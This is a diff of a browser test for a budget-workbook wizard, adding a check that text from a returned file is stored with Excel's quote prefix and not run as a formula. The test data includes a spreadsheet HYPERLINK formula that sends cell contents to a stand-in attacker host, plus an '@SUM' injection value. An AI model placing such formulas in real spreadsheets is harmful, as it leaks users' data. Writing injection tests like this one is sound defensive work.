@@ -71,7 +71,14 @@ describe("department workbooks wizard in the playground", () => {
     const filled = await fillDepartmentWorkbook(blank, {
       proposals: [
         { title: "Samling af jobcentre", kind: "efficiency", amounts: [40, 50, 60, 62.4] },
-        { title: "Ny takst", kind: "revenue", amounts: [22.4, 12.4, 2.4, 0] },
+        {
+          title: "Ny takst",
+          kind: "revenue",
+          amounts: [22.4, 12.4, 2.4, 0],
+          // Text from a returned file that Excel would run as a formula: it must arrive as text.
+          description: '=HYPERLINK("http://angriber.example/?"&A1,"Klik")',
+          staff: "@SUM(1,1)",
+        },
       ],
     });
     await page.getByTestId("wb-files").setInputFiles([
@@ -91,7 +98,7 @@ describe("department workbooks wizard in the playground", () => {
 
     await page.getByTestId("wb-write").click();
     await page.getByTestId("write-notice").waitFor();
-    await expect(page.getByTestId("write-notice").textContent()).resolves.toContain("Forslagskatalog!A1:P18");
+    await expect(page.getByTestId("write-notice").textContent()).resolves.toContain("Forslagskatalog!A1:P20");
     const cells = await readCells(page, "Forslagskatalog!A1:K16");
     expect(cells.values[0]?.[0]).toBe("Status");
     expect(cells.values.slice(2, 4).map((row) => [row[0], row[2]])).toEqual([
@@ -104,6 +111,14 @@ describe("department workbooks wizard in the playground", () => {
       ["Ny takst", 22.4, 12.4, 2.4, 0, 37.2],
       ["", 62.4, 62.4, 62.4, 62.4, 249.6],
     ]);
+    // Nothing from the returned file became a formula: the texts went in with Excel's quote
+    // prefix, which Excel, and the playground, keep out of the value shown.
+    const written = await readCells(page, "Forslagskatalog!A1:P20");
+    expect(written.inputs.flat().filter((input) => typeof input === "string" && input.startsWith("="))).toEqual([]);
+    const takst = written.inputs.find((row) => row[3] === "Ny takst");
+    expect([takst?.[4], takst?.[13]]).toEqual(['\'=HYPERLINK("http://angriber.example/?"&A1,"Klik")', "'@SUM(1,1)"]);
+    const shown = written.values[written.inputs.indexOf(takst ?? [])];
+    expect([shown?.[4], shown?.[13]]).toEqual(['=HYPERLINK("http://angriber.example/?"&A1,"Klik")', "@SUM(1,1)"]);
     expect(session.errors).toEqual([]);
   });
 
